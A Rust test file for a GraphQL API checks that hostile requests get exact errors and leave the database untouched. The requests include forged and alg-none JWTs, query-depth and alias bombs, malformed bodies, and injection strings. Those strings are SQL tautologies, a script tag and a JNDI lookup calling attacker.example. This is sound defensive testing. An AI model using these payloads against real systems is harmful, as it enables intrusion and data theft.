//! A table of hostile inputs — bad tokens, role escalation, depth bombs, alias floods,
//! huge pages, injection strings in every text argument, oversize and malformed bodies,
//! wrong content types — each with the exact HTTP status and `extensions.code` it must
//! get; afterwards the server is healthy, a normal query still works, and no row was
//! written.
#![allow(clippy::unwrap_used)]

mod common;

use std::time::Duration;

use api::auth::{Claims, JwtKeys, Role};
use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD};
use common::{
    TestApp, WAIT,
    fixtures::{BackendApp, Seed, each_backend},
    gql::execute,
    test_keys,
};
use entities::enums::{OrderStatus, ProductCategory};
use reqwest::{StatusCode, header};
use sea_orm::{EntityTrait, PaginatorTrait};
use serde_json::{Value, json};
use uuid::Uuid;

/// What a hostile request must get: the HTTP status, and the first error's code (`None`:
/// no error at all).
type Expected = (StatusCode, Option<&'static str>);

const UNAUTHENTICATED: Expected = (StatusCode::UNAUTHORIZED, Some("UNAUTHENTICATED"));
const REQUEST_ERROR: Expected = (StatusCode::BAD_REQUEST, Some("BAD_USER_INPUT"));
const FIELD_ERROR: Expected = (StatusCode::OK, Some("BAD_USER_INPUT"));
const FORBIDDEN: Expected = (StatusCode::OK, Some("FORBIDDEN"));
const NO_ERROR: Expected = (StatusCode::OK, None);

/// Strings an attacker puts in text inputs.
fn injections() -> Vec<(&'static str, String)> {
    vec![
        ("sql", "' OR 1=1 --".to_owned()),
        (
            "sql union",
            "x' UNION SELECT email FROM customer --".to_owned(),
        ),
        ("like wildcard", "%_%".to_owned()),
        ("html", "<script>alert(1)</script>".to_owned()),
        ("jndi", "${jndi:ldap://attacker.example/a}".to_owned()),
        ("nul byte", "Blue\u{0}Dream".to_owned()),
        ("very long", "A".repeat(100_000)),
    ]
}

/// Counts of every table a request could write to.
async fn row_counts(app: &TestApp) -> Vec<u64> {
    let db = &app.state.db;
    vec![
        entities::product::Entity::find().count(db).await.unwrap(),
        entities::stock_level::Entity::find()
            .count(db)
            .await
            .unwrap(),
        entities::location::Entity::find().count(db).await.unwrap(),
        entities::customer::Entity::find().count(db).await.unwrap(),
        entities::order::Entity::find().count(db).await.unwrap(),
        entities::order_event::Entity::find()
            .count(db)
            .await
            .unwrap(),
        entities::outbox::Entity::find().count(db).await.unwrap(),
        entities::provider_connection::Entity::find()
            .count(db)
            .await
            .unwrap(),
        entities::alert::Entity::find().count(db).await.unwrap(),
        entities::audit_log::Entity::find().count(db).await.unwrap(),
    ]
}

fn alg_none() -> String {
    let claims = Claims::new(Role::Admin, "attacker", Duration::from_secs(3600), None);
    format!(
        "{}.{}.",
        URL_SAFE_NO_PAD.encode(r#"{"alg":"none","typ":"JWT"}"#),
        URL_SAFE_NO_PAD.encode(serde_json::to_vec(&claims).unwrap())
    )
}

/// 20 levels of `__type { ofType { … } }`: deeper than the limit without needing data.
fn depth_bomb() -> String {
    let mut deep = "name".to_owned();
    for _ in 0..20 {
        deep = format!("ofType {{ {deep} }}");
    }
    format!("{{ __type(name: \"Product\") {{ {deep} }} }}")
}

fn alias_flood() -> String {
    let fields: String = (0..500).map(|i| format!("a{i}: apiVersion ")).collect();
    format!("{{ {fields} }}")
}

/// One field repeated past the complexity limit, without a single alias.
fn complexity_bomb() -> String {
    format!("{{ {} }}", "apiVersion ".repeat(2_500))
}

/// Sends a raw body to `/graphql`.
async fn post_raw(app: &TestApp, content_type: &str, body: Vec<u8>) -> (StatusCode, Value) {
    let response = app
        .client
        .post(app.url("/graphql"))
        .header(header::ACCEPT, "application/graphql-response+json")
        .header(header::CONTENT_TYPE, content_type)
        .body(body)
        .send()
        .await
        .unwrap();
    let status = response.status();
    let text = response.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

fn observed(status: StatusCode, body: &Value) -> (StatusCode, Option<String>) {
    let code = body["errors"][0]["extensions"]["code"]
        .as_str()
        .map(str::to_owned);
    (status, code)
}

fn check(
    failures: &mut Vec<String>,
    case: &str,
    expected: Expected,
    status: StatusCode,
    body: &Value,
) {
    let got = observed(status, body);
    if got != (expected.0, expected.1.map(str::to_owned)) {
        let body = body.to_string();
        let shown: String = body.chars().take(300).collect();
        failures.push(format!(
            "{case}: expected {expected:?}, got {got:?}: {shown}"
        ));
    }
}

#[tokio::test]
async fn every_hostile_input_gets_its_exact_error_and_the_server_stays_healthy() {
    for BackendApp { backend, app } in each_backend().await {
        let seed = Seed::new(&app.state.db);
        let store = seed.location("Mission").await;
        let flower = seed
            .product("Blue Dream", "Farmhouse", ProductCategory::Flower, 3_500)
            .await;
        seed.stock(&flower, &store, 10, 0).await;
        let ada = seed.customer("ada@example.com", "Ada", "Lovelace").await;
        let bob = seed.customer("bob@example.com", "Bob", "Builder").await;
        let adas_order = seed
            .order(&ada, &store, OrderStatus::Submitted, &[&flower])
            .await;
        let before = row_counts(&app).await;

        let bob_token = app.token(Role::Customer, &bob.id.to_string());
        let storefront = app.token(Role::Storefront, "shop");
        let expired = test_keys()
            .sign(&Claims {
                exp: jsonwebtoken::get_current_timestamp() - 3600,
                ..Claims::new(Role::Admin, "ops", Duration::ZERO, None)
            })
            .unwrap();
        let forged = JwtKeys::hs256(b"an-attacker-secret-an-attacker-secret!", None)
            .mint(Role::Admin, "ops", Duration::from_secs(600))
            .unwrap();
        let escalated = {
            // A customer token whose payload was edited to claim admin; signature kept.
            let token = app.token(Role::Customer, &bob.id.to_string());
            let parts: Vec<&str> = token.split('.').collect();
            let mut claims: Value =
                serde_json::from_slice(&URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
            claims["role"] = json!("admin");
            format!(
                "{}.{}.{}",
                parts[0],
                URL_SAFE_NO_PAD.encode(claims.to_string()),
                parts[2]
            )
        };

        let mut failures = Vec::new();
        let customers = "{ customers(first: 5) { totalCount } }";
        let graphql_cases: Vec<(&str, Option<String>, String, Value, Expected)> = vec![
            ("expired token", Some(expired), customers.into(), json!({}), UNAUTHENTICATED),
            ("forged token", Some(forged), customers.into(), json!({}), UNAUTHENTICATED),
            ("alg none", Some(alg_none()), customers.into(), json!({}), UNAUTHENTICATED),
            ("edited claims", Some(escalated), customers.into(), json!({}), UNAUTHENTICATED),
            ("garbage token", Some("a.b.c".into()), "{ apiVersion }".into(), json!({}), UNAUTHENTICATED),
            ("customer reads customers", Some(bob_token.clone()), customers.into(), json!({}), FORBIDDEN),
            (
                "storefront creates a connection",
                Some(storefront.clone()),
                r#"mutation { createProviderConnection(input: { kind: DUTCHIE, name: "x", baseUrl: "https://pos.example", apiKey: "k" }) { id } }"#.into(),
                json!({}),
                FORBIDDEN,
            ),
            (
                "storefront triggers a sync",
                Some(storefront.clone()),
                "mutation($id: ID!) { triggerSync(id: $id) { id } }".into(),
                json!({ "id": Uuid::now_v7() }),
                FORBIDDEN,
            ),
            ("storefront reads the audit log", Some(storefront.clone()), "{ auditLog { __typename } }".into(), json!({}), FORBIDDEN),
            ("anonymous reads orders", None, "{ orders { totalCount } }".into(), json!({}), (StatusCode::OK, Some("UNAUTHENTICATED"))),
            ("depth bomb", None, depth_bomb(), json!({}), REQUEST_ERROR),
            ("alias flood", None, alias_flood(), json!({}), REQUEST_ERROR),
            ("complexity bomb", None, complexity_bomb(), json!({}), REQUEST_ERROR),
            ("huge first", None, "{ products(first: 100000) { totalCount } }".into(), json!({}), FIELD_ERROR),
            ("negative first", None, "{ products(first: -1) { totalCount } }".into(), json!({}), FIELD_ERROR),
            ("first overflow", None, "query($n: Int) { products(first: $n) { totalCount } }".into(), json!({ "n": 1_u64 << 40 }), FIELD_ERROR),
        ];
        for (case, token, query, variables, expected) in &graphql_cases {
            let (status, body) = execute(&app, token.as_deref(), query, variables.clone()).await;
            check(
                &mut failures,
                &format!("{backend}: {case}"),
                *expected,
                status,
                &body,
            );
        }

        // Role escalation that must see nothing rather than fail: another customer's order.
        let (status, body) = execute(
            &app,
            Some(&bob_token),
            "query($id: ID!) { order(id: $id) { id } orders(customerId: $id) { totalCount } }",
            json!({ "id": adas_order.id }),
        )
        .await;
        check(
            &mut failures,
            &format!("{backend}: another customer's order"),
            NO_ERROR,
            status,
            &body,
        );
        assert!(body["data"]["order"].is_null(), "{backend}: {body}");
        let (_, body) = execute(
            &app,
            Some(&bob_token),
            "query($c: ID) { orders(customerId: $c) { totalCount } }",
            json!({ "c": ada.id }),
        )
        .await;
        assert_eq!(body["data"]["orders"]["totalCount"], 0, "{backend}: {body}");

        // Injection strings in every text argument of every query field.
        let admin = app.token(Role::Admin, "ops");
        for (field, argument, kind, companions) in text_arguments(&app, &admin).await {
            for (label, value) in injections() {
                let query = format!(
                    "query($v: {kind}!) {{ {field}({argument}: $v{companions}) {{ __typename }} }}"
                );
                let (status, body) =
                    execute(&app, Some(&admin), &query, json!({ "v": value })).await;
                // NUL is refused before execution; an ID must be a UUID and a cursor one
                // the server issued; free text takes anything up to its length limit.
                let opaque = kind == "ID" || argument == "after" || argument == "before";
                let expected = if label == "nul byte" {
                    REQUEST_ERROR
                } else if opaque || value.chars().count() > 200 {
                    FIELD_ERROR
                } else {
                    NO_ERROR
                };
                check(
                    &mut failures,
                    &format!("{backend}: {field}({argument}) {label}"),
                    expected,
                    status,
                    &body,
                );
            }
        }
        // Search text is data, never SQL: an injected tautology matches nothing.
        let (_, body) = execute(
            &app,
            None,
            "query($s: String) { products(search: $s) { totalCount } }",
            json!({ "s": "' OR 1=1 --" }),
        )
        .await;
        assert_eq!(
            body["data"]["products"]["totalCount"], 0,
            "{backend}: {body}"
        );

        // Bodies and content types.
        let max = app.state.config.limits.max_body_bytes;
        let oversize = format!(
            r#"{{"query":"{{ apiVersion }}","variables":{{"pad":"{}"}}}}"#,
            "x".repeat(max + 1)
        );
        let raw_cases: Vec<(&str, &str, Vec<u8>, Expected)> = vec![
            (
                "oversize body",
                "application/json",
                oversize.into_bytes(),
                (StatusCode::PAYLOAD_TOO_LARGE, Some("BAD_USER_INPUT")),
            ),
            (
                "malformed JSON",
                "application/json",
                br#"{"query": "{ apiVersion }""#.to_vec(),
                REQUEST_ERROR,
            ),
            (
                "JSON array",
                "application/json",
                br#"[{"query": "{ apiVersion }"}]"#.to_vec(),
                REQUEST_ERROR,
            ),
            (
                "query not a string",
                "application/json",
                br#"{"query": 42}"#.to_vec(),
                REQUEST_ERROR,
            ),
            (
                "not UTF-8",
                "application/json",
                vec![0xff, 0xfe, 0x7b],
                REQUEST_ERROR,
            ),
            ("empty body", "application/json", Vec::new(), REQUEST_ERROR),
            (
                "text/plain",
                "text/plain",
                br#"{"query": "{ apiVersion }"}"#.to_vec(),
                (StatusCode::UNSUPPORTED_MEDIA_TYPE, Some("BAD_USER_INPUT")),
            ),
            (
                "form",
                "application/x-www-form-urlencoded",
                b"query=%7BapiVersion%7D".to_vec(),
                (StatusCode::UNSUPPORTED_MEDIA_TYPE, Some("BAD_USER_INPUT")),
            ),
        ];
        for (case, content_type, body, expected) in raw_cases {
            let (status, body) = post_raw(&app, content_type, body).await;
            check(
                &mut failures,
                &format!("{backend}: {case}"),
                expected,
                status,
                &body,
            );
        }

        assert!(
            failures.is_empty(),
            "{} hostile inputs mishandled:\n{}",
            failures.len(),
            failures.join("\n")
        );

        let health = tokio::time::timeout(WAIT, app.client.get(app.url("/healthz")).send())
            .await
            .unwrap()
            .unwrap();
        assert_eq!(health.status(), StatusCode::OK, "{backend}");
        let (status, body) = execute(
            &app,
            None,
            "{ products(first: 5) { totalCount edges { node { name } } } }",
            json!({}),
        )
        .await;
        assert_eq!(status, StatusCode::OK, "{backend}: {body}");
        assert_eq!(
            body["data"]["products"]["edges"][0]["node"]["name"], "Blue Dream",
            "{backend}"
        );
        assert_eq!(
            row_counts(&app).await,
            before,
            "{backend}: a hostile request wrote rows"
        );
    }
}

/// `(field, argument, type, companions)` for every `String`/`ID` argument of every query
/// field; `companions` passes the field's other required arguments a well-formed value
/// (a nil id, an empty list, a short text), so only the argument under test is hostile.
async fn text_arguments(app: &TestApp, admin: &str) -> Vec<(String, String, String, String)> {
    let query = "{ __schema { queryType { fields { name args { name defaultValue type { kind name ofType { kind name } } } } } } }";
    let (_, body) = execute(app, Some(admin), query, json!({})).await;
    let mut found = Vec::new();
    for field in body["data"]["__schema"]["queryType"]["fields"]
        .as_array()
        .unwrap()
    {
        let name = field["name"].as_str().unwrap();
        if name.starts_with('_') {
            continue;
        }
        let args = field["args"].as_array().unwrap();
        for argument in args {
            let ty = &argument["type"];
            let named = if ty["kind"] == "NON_NULL" {
                &ty["ofType"]
            } else {
                ty
            };
            if named["kind"] == "SCALAR" && (named["name"] == "String" || named["name"] == "ID") {
                let companions: String = args
                    .iter()
                    .filter(|other| {
                        other["name"] != argument["name"]
                            && other["type"]["kind"] == "NON_NULL"
                            && other["defaultValue"].is_null()
                    })
                    .map(|other| {
                        let inner = &other["type"]["ofType"];
                        let value = match (inner["kind"].as_str(), inner["name"].as_str()) {
                            (Some("LIST"), _) => "[]",
                            (_, Some("ID")) => "\"00000000-0000-0000-0000-000000000000\"",
                            _ => "\"x\"",
                        };
                        format!(", {}: {value}", other["name"].as_str().unwrap())
                    })
                    .collect();
                found.push((
                    name.to_owned(),
                    argument["name"].as_str().unwrap().to_owned(),
                    named["name"].as_str().unwrap().to_owned(),
                    companions,
                ));
            }
        }
    }
    assert!(
        found
            .iter()
            .any(|(field, arg, _, _)| field == "products" && arg == "search")
    );
    found
}
